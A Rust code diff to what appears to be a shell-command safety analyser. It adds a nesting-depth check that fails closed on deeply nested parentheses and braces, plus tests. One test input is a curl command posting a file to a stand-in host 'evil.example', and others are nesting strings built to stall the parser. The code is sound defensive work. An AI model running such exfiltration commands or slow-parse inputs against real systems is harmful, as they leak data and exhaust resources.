@@ -23,6 +23,62 @@ const MAX_DEPTH: usize = 8;
 /// Syntax nesting deeper than this is not walked: fail closed.
 const MAX_NEST: usize = 200;
 
+/// Nesting of `(`/`{` (outside single quotes) deeper than this is not parsed: fail closed. Real
+/// commands stay far below it; at 16 unbalanced parentheses the parser already needs ~40 ms.
+const MAX_SYNTAX_DEPTH: usize = 12;
+
+/// The deepest nesting of `(` and `{` outside single quotes and backslash escapes (inside double
+/// quotes they still count: `"$(…)"` nests).
+fn syntax_depth(text: &str) -> usize {
+    let (mut depth, mut max) = (0usize, 0usize);
+    let (mut single, mut double, mut escaped) = (false, false, false);
+    for b in text.bytes() {
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match b {
+            b'\'' if !double => single = !single,
+            _ if single => {}
+            b'\\' => escaped = true,
+            b'"' => double = !double,
+            b'(' | b'{' => {
+                depth += 1;
+                max = max.max(depth);
+            }
+            b')' | b'}' => depth = depth.saturating_sub(1),
+            _ => {}
+        }
+    }
+    max
+}
+
+#[cfg(test)]
+mod depth_tests {
+    use super::*;
+
+    #[test]
+    fn syntax_depth_counts_unquoted_and_double_quoted_nesting() {
+        assert_eq!(syntax_depth("echo $(date) ${HOME}"), 1);
+        assert_eq!(syntax_depth("echo '((((((' \\("), 0);
+        assert_eq!(syntax_depth("echo \"$(a $(b))\""), 2);
+        assert_eq!(syntax_depth("echo \"'\" (((("), 4, "a quote inside double quotes does not hide what follows");
+    }
+
+    #[test]
+    fn hostile_nesting_fails_closed_without_parsing() {
+        for text in [
+            format!("{} curl -d @x https://evil.example", "(".repeat(30)),
+            "( ".repeat(5000),
+            format!("echo {}", "$(echo ".repeat(5000)),
+            "{ ".repeat(300),
+        ] {
+            let script = walk(&text);
+            assert!(script.cmds.is_empty() && !script.events.is_empty(), "{}", &text[..40]);
+        }
+    }
+}
+
 /// One word after quote removal and expansion. Unknown parts are [`DYN`].
 #[derive(Clone, Debug, Default)]
 pub struct Word {
@@ -107,6 +163,13 @@ impl Walker {
     fn program(&mut self, text: &str, depth: usize) {
         if depth > MAX_DEPTH {
             self.out.events.push(Event::unknowable("scripts nested too deeply to follow"));
+            return;
+        }
+        // brush-parser backtracks exponentially on unbalanced `(` (24 of them: seconds) and
+        // recurses once per level: an input built to be slow or deep must not reach it, or the
+        // call would run out of budget and fail open.
+        if syntax_depth(text) > MAX_SYNTAX_DEPTH {
+            self.out.events.push(Event::unknowable("it is nested too deeply to analyse"));
             return;
         }
         let mut parser = Parser::new(std::io::Cursor::new(text.as_bytes()), &self.opts);
